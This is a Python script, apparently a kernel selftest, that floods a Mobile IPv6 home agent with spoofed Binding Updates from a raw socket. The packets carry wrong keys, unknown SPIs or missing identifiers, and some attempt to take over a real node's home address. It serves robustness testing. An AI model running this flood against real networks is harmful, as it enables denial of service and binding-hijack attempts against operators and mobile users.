#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""A Binding Update flood at a home agent, as fast as one raw socket
sends: BUs an attacker without the key can make, each from a spoofed
care-of address (2001:db8:99::/48) with a Home Address option, built by
mip6_bu.build() (RFC 4283 identifier, RFC 4285 replay protection and
authentication options) and cycled:
  - the real node's identifier and SPI with a wrong key, for the real
    home address (a takeover attempt: the HA computes the HMAC) and for
    others in the home prefix;
  - an SPI the home agent does not know;
  - no identifier at all.

  ha_flood.py --ha A --hoa H --nai N --spi S --seconds T [--stop FILE]
              [--ready FILE] [--rate R]

--rate R paces the flood at R BUs a second (a steady load rather than
all a CPU can send).

Creates the --ready file when it starts sending (building the packets
with scapy takes seconds); prints "SENT SECONDS" when done (T seconds,
or when the --stop file appears).
"""
import argparse
import os
import socket
import sys
import time
from types import SimpleNamespace

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mip6_bu  # noqa: E402


def packets(a, n=256):
    out = []
    wrong = "ff" * 16
    for i in range(n):
        coa = "2001:db8:99:%x::%x" % (i >> 4, 0x1000 + i)
        kind = i % 4
        hoa = a.hoa if kind == 0 else "2001:db8:1::%x" % (0x2000 + i)
        spi = a.spi if kind < 2 else 0x7000 + i
        nai = a.nai if kind < 3 else "x%d@flood.invalid" % i
        b = SimpleNamespace(coa=coa, hoa=hoa, ha=a.ha, nai=nai, spi=spi,
                            key=wrong, seq=i, lifetime=600, ts_offset=0.0)
        out.append(bytes(mip6_bu.build(b)))
    return out


def main():
    p = argparse.ArgumentParser()
    for k in ("ha", "hoa", "nai", "stop", "ready"):
        p.add_argument("--" + k)
    p.add_argument("--spi", type=int)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--rate", type=float, default=0.0)
    a = p.parse_args()
    pkts = packets(a)
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = (a.ha, 0)
    sent = 0
    if a.ready:
        open(a.ready, "w").close()
    t0 = time.monotonic()
    end = t0 + a.seconds
    while True:
        for pk in pkts:
            try:
                s.sendto(pk, dst)
                sent += 1
            except (BlockingIOError, OSError):
                pass
            if a.rate > 0:
                # the next packet's time on the schedule
                lag = t0 + sent / a.rate - time.monotonic()
                if lag > 0:
                    time.sleep(lag)
                if time.monotonic() >= end:
                    break
        now = time.monotonic()
        if now >= end or (a.stop and os.path.exists(a.stop)):
            break
    print(sent, "%.2f" % (now - t0))


if __name__ == "__main__":
    sys.exit(main())
